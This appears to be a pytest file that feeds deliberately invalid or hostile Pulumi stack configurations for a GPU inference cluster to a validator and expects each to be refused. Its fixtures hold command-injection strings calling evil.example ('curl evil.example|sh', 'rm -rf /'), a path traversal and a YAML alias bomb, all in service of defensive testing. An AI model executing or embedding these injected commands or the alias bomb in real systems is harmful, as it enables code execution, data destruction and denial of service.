"""Hostile stack files: every one must be refused, the same way, by both ways in.

What flows through here: a shipped stack file, read with `tools.stackfile.parse`, mutated
into something invalid or dangerous, and written back as `Pulumi.<case>.yaml` ->
1. the `pulumi up` path: the real program under mocks (`tools.mock_runtime.run`) must raise
   `pulumi.RunError` whose message is ONE line naming `stacks/Pulumi.<case>.yaml` and the key,
   with nothing registered before it;
2. the `make render` path: `python -m tools.render --stack <case>` in a subprocess, reading the
   file from a temporary folder (PD_STACKS_DIR), must exit 1 with exactly one line on stderr
   (no traceback) naming the file and the key, and write nothing.
Files that are not a stack file at all (not YAML, not a mapping) never reach the program under
`pulumi up` (Pulumi refuses to read them); for those the first path is `stackfile.parse`
refusing them with one line.
"""

from __future__ import annotations

import copy
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pulumi
import pytest
import yaml

from infra.config import PROJECT, SECRET_KEYS
from infra.paths import ROOT
from tools import mock_runtime, stackfile

SECURE = "v1:placeholder:hostile"


def shipped(stack: str) -> dict[str, Any]:
    """A shipped stack file once its owner set the secrets its config needs, as {bare key: value},
    secrets as {"secure": ...}, other namespaces kept whole."""
    values, secrets, others = stackfile.read_as_deployed(stack)
    cfg: dict[str, Any] = {k: ({"secure": SECURE} if k in secrets else copy.deepcopy(v)) for k, v in values.items()}
    cfg.update({k: copy.deepcopy(v) for k, v in others.items()})
    return cfg


def to_text(cfg: dict[str, Any]) -> str:
    config = {(k if ":" in k else f"{PROJECT}:{k}"): v for k, v in cfg.items()}
    return yaml.safe_dump({"config": config}, sort_keys=False)


@dataclass
class Hostile:
    id: str
    base: str  # the shipped stack it starts from
    mutate: Callable[[dict[str, Any]], Any] | None  # edits the {bare key: value} mapping in place
    key: str  # what the one-line error must name
    text: str | None = None  # raw file text instead (files that are not a stack file)

    @property
    def file_level(self) -> bool:
        return self.text is not None

    def file_text(self) -> str:
        if self.text is not None:
            return self.text
        cfg = shipped(self.base)
        assert self.mutate is not None
        self.mutate(cfg)
        return to_text(cfg)


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Set a dotted path ("nodePools.prefill.maxSize") in the config mapping."""

    def mutate(cfg: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = cfg
        for p in parents:
            node = node.setdefault(p, {})
        node[last] = value

    return mutate


def _del(path: str) -> Callable[[dict[str, Any]], None]:
    def mutate(cfg: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = cfg
        for p in parents:
            node = node[p]
        del node[last]

    return mutate


def _all(*mutations: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def mutate(cfg: dict[str, Any]) -> None:
        for m in mutations:
            m(cfg)

    return mutate


EXISTING_VPC = {
    "vpcId": "vpc-0123456789abcdef0",
    "privateSubnetIds": ["subnet-0aaaaaaaaaaaaaaa1", "subnet-0aaaaaaaaaaaaaaa2"],
    "efaSubnetId": "subnet-0bbbbbbbbbbbbbbb9",  # not one of the private subnets: another zone
}


def _alias_bomb() -> str:
    """The dev stack with a 'billion laughs' in engineKwargs: 9^8 values from 9 short lines."""
    lines = ['      a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"      a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    text = (ROOT / "stacks" / "Pulumi.dev.yaml").read_text()
    assert text.rstrip().splitlines()[-1].startswith("      "), "dev's last key is serving: the bomb goes inside"
    return text.rstrip("\n") + "\n    engineKwargs:\n" + "\n".join(lines) + "\n"


CASES: list[Hostile] = [
    # --- types and spelling -------------------------------------------------------------
    Hostile("wrong-type-size", "prod", _set("nodePools.decode.maxSize", "four"), "nodePools.decode.maxSize"),
    Hostile("wrong-type-zones", "dev", _set("availabilityZones", "us-east-2a"), "availabilityZones"),
    Hostile("wrong-type-bool-env", "dev", _set("environment", True), "environment"),
    Hostile("yaml-float-version", "staging", _set("kubernetesVersion", 1.3), "kubernetesVersion"),
    Hostile("unknown-top-key", "prod", _set("endpointAcess", "private"), "endpointAcess"),
    Hostile(
        "unknown-nested-key",
        "staging",
        _set("nodePools.prefill.instanceTyp", "p4de.24xlarge"),
        "nodePools.prefill.instanceTyp",
    ),
    Hostile("unknown-environment", "dev", _set("environment", "qa"), "environment"),
    # --- instances and the EFA zone ----------------------------------------------------
    Hostile(
        "unknown-instance",
        "prod",
        _set("nodePools.prefill.instanceType", "p9.96xlarge"),
        "nodePools.prefill.instanceType",
    ),
    Hostile("gpu-system-nodes", "dev", _set("systemNodes.instanceType", "p5.48xlarge"), "systemNodes.instanceType"),
    Hostile("zones-of-another-region", "staging", _set("aws:region", "eu-west-1"), "availabilityZones"),
    Hostile("efa-subnet-other-zone", "prod", _set("existingVpc", EXISTING_VPC), "efaSubnetId"),
    Hostile("efa-zone-not-listed", "staging", _set("efaZone", "us-east-2d"), "efaZone"),
    Hostile("efa-mixed-pools", "dev", _set("nodePools.prefill.instanceType", "p4de.24xlarge"), "nodePools"),
    Hostile("single-zone", "dev", _set("availabilityZones", ["us-east-2a"]), "availabilityZones"),
    # --- parallelism and replicas -------------------------------------------------------
    Hostile(
        "tp-beyond-node",
        "prod",
        _all(_set("serving.prefill.tensorParallelSize", 16), _set("serving.decode.tensorParallelSize", 16)),
        "serving.prefill.tensorParallelSize",
    ),
    Hostile("decode-pipeline-parallel", "prod", _set("serving.decode.pipelineParallelSize", 2), "pipelineParallelSize"),
    Hostile(
        "tp-not-power-of-two",
        "staging",
        _set("serving.decode.tensorParallelSize", 6),
        "serving.decode.tensorParallelSize",
    ),
    # Scale to zero is for dev and staging: prod refuses it.
    Hostile("zero-replicas-in-prod", "prod", _set("serving.prefill.minReplicas", 0), "serving.prefill.minReplicas"),
    Hostile("negative-replicas", "dev", _set("serving.decode.maxReplicas", -1), "serving.decode.maxReplicas"),
    Hostile("replicas-max-below-min", "prod", _set("serving.decode.maxReplicas", 1), "serving.decode"),
    Hostile("pool-max-below-min", "prod", _set("nodePools.decode.maxSize", 1), "nodePools.decode"),
    Hostile("pool-too-small", "prod", _set("nodePools.decode.maxSize", 2), "nodePools.decode.maxSize"),
    Hostile("decode-beyond-pool", "prod", _set("serving.decode.maxReplicas", 7), "nodePools.decode.maxSize"),
    Hostile("no-room-for-upgrade", "prod", _set("nodePools.decode.maxSize", 5), "nodePools.decode.maxSize"),
    # --- cluster -------------------------------------------------------------------------
    Hostile("kubernetes-too-old", "prod", _set("kubernetesVersion", "1.27"), "kubernetesVersion"),
    Hostile(
        "public-endpoint-in-prod",
        "prod",
        _all(_set("endpointAccess", "public-and-private"), _set("publicAccessCidrs", ["100.64.0.0/16"])),
        "endpointAccess",
    ),
    Hostile("public-endpoint-no-allow-list", "dev", _set("endpointAccess", "public-and-private"), "publicAccessCidrs"),
    Hostile("endpoint-open-to-internet", "dev", _set("publicAccessCidrs", ["0.0.0.0/0"]), "publicAccessCidrs"),
    Hostile("bad-admin-arn", "prod", _set("adminRoleArns", ["arn:aws:iam::123:user/root"]), "adminRoleArns"),
    # --- network -------------------------------------------------------------------------
    Hostile("cidr-prefix-33", "prod", _set("vpcCidr", "10.40.0.0/33"), "vpcCidr"),
    Hostile("cidr-host-bits", "prod", _set("serviceAllowedCidrs", ["10.1.2.3/8"]), "serviceAllowedCidrs"),
    Hostile("cidr-public-vpc", "staging", _set("vpcCidr", "8.8.0.0/16"), "vpcCidr"),
    Hostile("service-open-v4", "prod", _set("serviceAllowedCidrs", ["0.0.0.0/0"]), "serviceAllowedCidrs"),
    Hostile("service-open-v6", "prod", _set("serviceAllowedCidrs", ["::/0"]), "serviceAllowedCidrs"),
    Hostile(
        "endpoint-open-in-halves", "dev", _set("publicAccessCidrs", ["0.0.0.0/1", "128.0.0.0/1"]), "publicAccessCidrs"
    ),
    Hostile("service-v6-too-wide", "prod", _set("serviceAllowedCidrs", ["2000::/3"]), "serviceAllowedCidrs"),
    # A documentation range (RFC 5737) reaches nobody: the endpoint would be closed to everyone.
    Hostile("endpoint-doc-range", "prod", _set("serviceAllowedCidrs", ["203.0.113.0/24"]), "serviceAllowedCidrs"),
    Hostile("system-type-malformed", "dev", _set("systemNodes.instanceType", "p5.48xl"), "systemNodes.instanceType"),
    Hostile("ami-release-malformed", "prod", _set("amiReleaseVersion", "latest"), "amiReleaseVersion"),
    Hostile("ami-release-other-k8s", "prod", _set("amiReleaseVersion", "1.34.9-20260714"), "amiReleaseVersion"),
    Hostile("ami-release-missing", "staging", _del("amiReleaseVersion"), "amiReleaseVersion"),
    # No recorded NVIDIA driver for that release: refused, not guessed.
    Hostile("ami-release-unknown-driver", "prod", _set("amiReleaseVersion", "1.35.6-20990101"), "amiReleaseVersion"),
    Hostile("redis-address-not-tls-scheme", "prod", _set("gcsRedisAddress", "http://x:6379"), "gcsRedisAddress"),
    Hostile(
        "managed-redis-with-address",
        "prod",
        _set("gcsRedisAddress", "rediss://master.x.abc123.use1.cache.amazonaws.com:6379"),
        "gcsRedisAddress",
    ),
    Hostile("managed-redis-single-node-prod", "prod", _set("gcsRedis", {"replicas": 0}), "gcsRedis.replicas"),
    # A new VPC (vpcCidr) and a Redis outside it: nothing peers the two, the GCS would crash-loop.
    Hostile(
        "external-redis-outside-the-new-vpc",
        "prod",
        _all(
            _set("gcsFaultTolerance", "external-redis"),
            _set("gcsRedisAddress", "rediss://master.x.abc123.use1.cache.amazonaws.com:6379"),
        ),
        "gcsFaultTolerance, vpcCidr",
    ),
    Hostile(
        "managed-redis-node-type-injection",
        "deepseek-p5",
        _set("gcsRedis.nodeType", "cache.m7g.large; curl evil.example"),
        "gcsRedis.nodeType",
    ),
    Hostile("gcs-redis-without-managed", "staging", _set("gcsRedis", {"replicas": 1}), "gcsRedis"),
    Hostile("nlb-without-allow-list", "prod", _del("serviceAllowedCidrs"), "serviceAllowedCidrs"),
    # --- secrets and auth ----------------------------------------------------------------
    Hostile("missing-api-keys", "staging", _del("apiKeys"), "apiKeys"),
    Hostile("empty-api-keys", "staging", _set("apiKeys", {"secure": ""}), "apiKeys"),
    Hostile("api-keys-plain-text", "prod", _set("apiKeys", "sk-live-1234"), "apiKeys"),
    Hostile("hf-token-plain-text", "staging", _set("hfToken", "hf_abcdefghijklmnop"), "hfToken"),
    Hostile("redis-password-plain-text", "prod", _set("gcsRedisPassword", "hunter2"), "gcsRedisPassword"),
    Hostile("fallback-api-key-plain-text", "prod", _set("fallbackApiKey", "sk-provider-1234"), "fallbackApiKey"),
    Hostile(
        "fallback-plain-http",
        "prod",
        _set("serving.fallback", {"baseUrl": "http://api.provider.example/v1", "model": "m"}),
        "serving.fallback.baseUrl",
    ),
    Hostile(
        "fallback-key-in-url",
        "staging",
        _set("serving.fallback", {"baseUrl": "https://sk-live:x@api.provider.example/v1", "model": "m"}),
        "serving.fallback.baseUrl",
    ),
    Hostile("auth-disabled-staging", "staging", _set("serving.auth", "disabled"), "serving.auth"),
    Hostile("redis-without-address", "prod", _set("gcsFaultTolerance", "external-redis"), "gcsRedisAddress"),
    Hostile(
        "redis-address-injection", "prod", _set("gcsRedisAddress", "redis:6379;curl evil.example|sh"), "gcsRedisAddress"
    ),
    # --- what ends up in commands and names ----------------------------------------------
    Hostile("model-id-shell", "dev", _set("serving.model.id", "qwen; rm -rf /"), "serving.model.id"),
    Hostile(
        "model-source-shell",
        "dev",
        _set("serving.model.source", "Qwen/Qwen$(curl evil.example)"),
        "serving.model.source",
    ),
    Hostile(
        "model-source-traversal",
        "prod",
        _set("serving.model.source", "s3://pd-inference-prod-models/../other"),
        "serving.model.source",
    ),
    Hostile(
        "model-source-local-path", "staging", _set("serving.model.source", "/models/llama"), "serving.model.source"
    ),
    Hostile("model-bucket-mismatch", "prod", _set("modelBucket", "someone-elses-bucket"), "modelBucket"),
    Hostile("namespace-kube-system", "dev", _set("namespace", "kube-system"), "namespace"),
    Hostile("namespace-of-an-add-on", "prod", _set("namespace", "kuberay-system"), "namespace"),
    Hostile(
        "reserved-engine-kwarg",
        "dev",
        _set("serving.engineKwargs", {"tensor_parallel_size": 2}),
        "serving.engineKwargs",
    ),
    # --- the KV transfer path: UCX on EFA falls back to TCP (ai-dynamo/nixl#909) -------------
    Hostile(
        "nixl-ucx-on-efa-extra-config",
        "prod",
        _set("serving.kvTransfer.extraConfig", {"backends": ["UCX"]}),
        "serving.kvTransfer.extraConfig.backends",
    ),
    Hostile("nixl-ucx-on-efa-backend", "prod", _set("serving.kvTransfer.backend", "UCX"), "serving.kvTransfer.backend"),
    Hostile("nixl-ucx-on-p4de", "staging", _set("serving.kvTransfer.backend", "UCX"), "serving.kvTransfer.backend"),
    Hostile(
        "nixl-libfabric-without-efa",
        "dev",
        _set("serving.kvTransfer.backend", "LIBFABRIC"),
        "serving.kvTransfer.backend",
    ),
    Hostile("nixl-backend-unknown", "prod", _set("serving.kvTransfer.backend", "TCP"), "serving.kvTransfer.backend"),
    Hostile(
        "engine-kwarg-only-in-local-vllm",
        "prod",
        _set("serving.engineKwargs", {"log_level": "debug"}),
        "serving.engineKwargs",
    ),
    # --- limits name model ids: only served ones -----------------------------------
    Hostile(
        "limits-key-model-not-served",
        "platform",
        _set("serving.limits", {"keys": {"k-0123456789ab": {"models": ["qwen2.5-7b-instruct", "gpt-4o"]}}}),
        "serving.limits.keys.k-0123456789ab.models[1]",
    ),
    # --- images and capacity ---------------------------------------------------------------
    Hostile(
        "image-bad-digest", "prod", _set("rayImage", "rayproject/ray-llm:2.60.0-py312-cu130@sha256:abc"), "rayImage"
    ),
    Hostile("image-latest", "prod", _set("rayImage", "rayproject/ray-llm:latest"), "rayImage"),
    Hostile("image-nightly", "prod", _set("rayImage", "rayproject/ray-llm:nightly-py311-cu128"), "rayImage"),
    Hostile("image-untagged", "staging", _set("rayImage", "rayproject/ray-llm"), "rayImage"),
    Hostile(
        "capacity-block-no-reservation",
        "prod",
        _set("nodePools.prefill.capacityType", "capacity-block"),
        "nodePools.prefill",
    ),
    Hostile(
        "capacity-block-bad-reservation",
        "prod",
        _all(
            _set("nodePools.prefill.capacityType", "capacity-block"),
            _set("nodePools.prefill.capacityReservationId", "cr-123; rm"),
        ),
        "nodePools.prefill",
    ),
    Hostile(
        "reservation-without-block",
        "prod",
        _set("nodePools.decode.capacityReservationId", "cr-0123456789abcdef0"),
        "nodePools.decode",
    ),
    Hostile("root-volume-tiny", "staging", _set("nodePools.decode.rootVolumeGiB", 8), "nodePools.decode.rootVolumeGiB"),
    # --- request traces ---------------------------------------------------------------------
    Hostile(
        "trace-rate-above-one", "prod", _set("observability.tracing.sampleRate", 2), "observability.tracing.sampleRate"
    ),
    Hostile(
        "trace-rate-with-tracing-off",
        "staging",
        _set("observability.tracing", {"enabled": False, "sampleRate": 0.5}),
        "observability.tracing",
    ),
    # --- files that are not stack files ----------------------------------------------------
    Hostile("not-yaml", "dev", None, "not valid YAML", text="config:\n  pd-inference:environment: [dev\n"),
    Hostile("tab-indented", "dev", None, "not valid YAML", text="config:\n\tpd-inference:environment: dev\n"),
    Hostile("top-level-list", "dev", None, "config", text="- config\n- pd-inference:environment: dev\n"),
    Hostile("config-is-a-list", "dev", None, "config", text="config:\n  - pd-inference:environment: dev\n"),
    Hostile("empty-file", "dev", None, "environment", text=""),
    Hostile("alias-bomb", "dev", None, "anchors and aliases", text=_alias_bomb()),
    Hostile(
        "alias-cycle",
        "dev",
        None,
        "anchors and aliases",
        text="config:\n  pd-inference:environment: dev\n  pd-inference:serving: &s {engineKwargs: {loop: *s}}\n",
    ),
]


def test_enough_cases() -> None:
    assert len(CASES) >= 25
    assert len({c.id for c in CASES}) == len(CASES)
    # Every case is a shipped file with one thing wrong: the shipped files themselves are fine.
    for stack in {c.base for c in CASES}:
        values, secrets, others = stackfile.parse(to_text(shipped(stack)), stack)
        mock_runtime.run(stack, values, secrets, others)


def _one_line(message: str, case: Hostile) -> None:
    source = f"stacks/Pulumi.{case.id}.yaml"
    lines = message.strip().splitlines()
    assert len(lines) == 1, f"{case.id}: expected one line, got {message!r}"
    assert "Traceback" not in message
    assert lines[0].startswith(f"{source}: "), f"{case.id}: {lines[0]!r} does not name {source}"
    assert case.key in lines[0], f"{case.id}: {lines[0]!r} does not name {case.key!r}"


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_pulumi_up_path_refuses(case: Hostile) -> None:
    source = f"stacks/Pulumi.{case.id}.yaml"
    text = case.file_text()
    if case.file_level:
        # Pulumi itself refuses such a file before the program runs; the offline reader must too
        # (unless the file is readable, e.g. empty: then the program's own check must refuse it).
        try:
            values, secrets, others = stackfile.parse(text, source)
        except stackfile.StackFileError as err:
            _one_line(str(err), case)
            return
    else:
        values, secrets, others = stackfile.parse(text, source)
    with pytest.raises(pulumi.RunError) as info:
        mock_runtime.run(case.id, values, secrets, others)
    _one_line(str(info.value), case)
    assert info.value.registered == [], f"{case.id}: registered {[r.name for r in info.value.registered]}"


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_render_path_refuses(case: Hostile, tmp_path: Path) -> None:
    stacks_dir = tmp_path / "stacks"
    stacks_dir.mkdir()
    (stacks_dir / f"Pulumi.{case.id}.yaml").write_text(case.file_text())
    out = tmp_path / "out"
    env = {**os.environ, "PD_STACKS_DIR": str(stacks_dir)}
    proc = subprocess.run(
        [sys.executable, "-m", "tools.render", "--stack", case.id, "--out", str(out)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1, f"{case.id}: exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    _one_line(proc.stderr, case)
    assert proc.stdout == ""
    assert not out.exists()


def test_anchors_within_reason_still_render(tmp_path: Path) -> None:
    # The alias guard must not refuse ordinary anchors, e.g. one pool definition used twice.
    text = (ROOT / "stacks" / "Pulumi.staging.yaml").read_text()
    pools = yaml.safe_load(text)["config"][f"{PROJECT}:nodePools"]

    def same(pool: dict) -> dict:  # staging's prefill pool alone has a KV offload tier
        return {k: v for k, v in pool.items() if k != "kvOffload"}

    assert same(pools["prefill"]) == same(pools["decode"])
    shared = text.replace("    prefill:\n      instanceType: p4de", "    prefill: &pool\n      instanceType: p4de", 1)
    start = shared.index("    decode:\n      instanceType: p4de")
    end = shared.index("  pd-inference:serving:")
    shared = shared[:start] + "    decode: *pool\n" + shared[end:]
    values, secrets, others = stackfile.parse(shared, "stacks/Pulumi.staging.yaml")
    assert same(values["nodePools"]["decode"]) == same(pools["decode"])
    loaded = stackfile.load_offline(values, secrets, others, "stacks/Pulumi.staging.yaml")  # + its owner's apiKeys
    mock_runtime.run("staging", loaded.values, loaded.secrets, others)


def test_secret_keys_cover_the_plain_text_cases() -> None:
    # A new secret config key needs its own plain-text case above.
    plain = {c.key for c in CASES if c.id.endswith("plain-text")}
    assert plain == set(SECRET_KEYS)
